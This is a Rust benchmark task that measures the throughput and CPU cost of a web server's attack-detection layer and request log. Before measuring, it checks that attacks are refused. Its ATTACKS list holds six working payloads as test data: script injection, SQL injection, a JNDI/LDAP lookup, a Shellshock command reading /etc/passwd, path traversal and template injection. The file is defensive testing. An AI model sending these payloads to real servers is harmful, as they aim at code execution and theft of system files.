//! `cargo xtask bench gate`: what detection and the request log cost the whole: the same load on the binary as it is
//! shipped, with every detector off, and without its request log, on one database.
//!
//! 1. Before anything is measured attacks must be refused where detection is on, pass where it is off, and clean requests
//!    pass everywhere.
//! 2. All take turns, in an order that turns round each time; a figure is the median of the rounds' ratios.
//!
//! Caveat: limits are counted as shipped but set beyond what the load reaches.

use super::{
    READ_ME, build_one,
    load::{Line, Shot},
    options::Options,
    people::People,
    place::{Host, Place},
    report::{Cost, middle, sorted},
};
use crate::{child::Children, say};

/// Every detector, as the configuration names them.
pub(crate) const DETECTORS: &str = r#"["control", "sql", "html", "path", "shell", "code", "template", "jndi", "nosql", "ldap", "xml", "line", "ssrf", "prototype", "upload"]"#;

/// Counted, and never reached.
const LIMITS: [(&str, &str); 4] = [
    ("gate.limits.read.per_address", "1000000000"),
    ("gate.limits.read.per_account", "1000000000"),
    ("gate.limits.read.burst_per_address", "1000000000"),
    ("gate.limits.read.burst_per_account", "1000000000"),
];

/// Headers that an attack hides in.
const ATTACKS: [&str; 6] = [
    "cookie: theme=%3Cscript%3Esteal()%3C%2Fscript%3E",
    "cookie: id=1'%20UNION%20SELECT%20name%2Cpass%20FROM%20staff--%20-",
    "user-agent: ${jndi:ldap://a.example/b}",
    "user-agent: () { :; }; /bin/cat /etc/passwd",
    "referer: https://app.example/?file=../../../../etc/passwd",
    "x-note: {{ self.__init__.__globals__ }}",
];

const HONEST: &str = "user-agent: Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0";

/// What is measured: as a browser of somebody signed in writes it.
const READ: Shot = Shot { bytes: |token| with(token, HONEST), ..READ_ME };

/// Builds the binary and measures it three ways.
///
/// # Errors
/// When something does not start, or refuses otherwise than it should.
pub(crate) fn run(args: &[String]) -> Result<(), String> {
    let options = Options::parse(args)?;
    if options.build {
        say("Building the release binary (a few minutes the first time)");
        build_one(&Children::guard()?, &["--bin", "mainstay"])?;
    }
    let place = Place::start(&LIMITS)?;
    let off = place.another(&[&LIMITS[..], &[("gate.detection.off", DETECTORS)]].concat())?;
    let unlogged = place.another(&[&LIMITS[..], &[("requests.keep", "false")]].concat())?;
    let people = People::first(&place, &options)?;
    let token = people.one()?;
    for (host, refuses) in [(&place.mainstay, true), (&off.host, false), (&unlogged.host, true)] {
        check(host, token, refuses)?;
    }
    let turn = |host: &Host| place.turn(host, &READ, &people, options.requests);
    let mut rounds = Vec::new();
    for round in 0..=options.pairs {
        let mut order = [(0, &place.mainstay), (1, &off.host), (2, &unlogged.host)];
        order.rotate_left(round % 3);
        let mut costs = order.map(|(which, host)| (which, turn(host)));
        costs.sort_by_key(|(which, _)| *which);
        let [shipped, off, unlogged] = costs.map(|(_, cost)| cost);
        rounds.push([shipped?, off?, unlogged?]);
    }
    // The first turn of each is not counted.
    report(&rounds[1..], &options);
    Ok(())
}

fn with(token: &str, header: &str) -> Vec<u8> {
    let request = super::people::read_me(token);
    let (first, rest) =
        request.split_at(request.iter().position(|byte| *byte == b'\n').map_or(0, |at| at + 1));
    [first, header.as_bytes(), b"\r\naccept: application/json\r\naccept-language: de-DE,de;q=0.9\r\n", rest]
        .concat()
}

fn check(host: &Host, token: &str, refuses: bool) -> Result<(), String> {
    let mut line = Line::to(host.address)?;
    line.call(&with(token, HONEST))?;
    for attack in ATTACKS {
        match line.call(&with(token, attack)) {
            Ok(_) if !refuses => {}
            Err(said) if refuses && said.starts_with("HTTP/1.1 403") => {}
            Ok(_) => return Err(format!("not refused: {attack}")),
            Err(said) => return Err(format!("{attack}: {said}")),
        }
    }
    Ok(())
}

fn report(rounds: &[[Cost; 3]], options: &Options) {
    let Options { requests, connections, .. } = options;
    say(&format!(
        "\n## {}, {} rounds of turns of {requests} requests on {connections} connections\n",
        READ.name,
        rounds.len()
    ));
    say(
        "| as shipped against | throughput (min..max) | CPU of the server (min..max) | CPU of server and PostgreSQL | server, us: shipped, other |",
    );
    say("|---|---|---|---|---|");
    for (name, other) in [("every detector off", 1), ("no request log", 2)] {
        let ratio = |figure: fn(&Cost) -> f64| {
            let ratios = sorted(rounds.iter().map(|round| figure(&round[0]) / figure(&round[other])));
            let (least, most) = (ratios.first().unwrap_or(&f64::NAN), ratios.last().unwrap_or(&f64::NAN));
            format!("**{:.3}** ({least:.3}..{most:.3})", middle(&ratios))
        };
        let of = |which: usize| middle(&sorted(rounds.iter().map(|round| round[which].server)));
        say(&format!(
            "| {name} | {} | {} | {} | {:.0}, {:.0} |",
            ratio(|cost| 1.0 / cost.share),
            ratio(|cost| cost.server),
            ratio(|cost| cost.server + cost.database),
            of(0),
            of(other),
        ));
    }
}
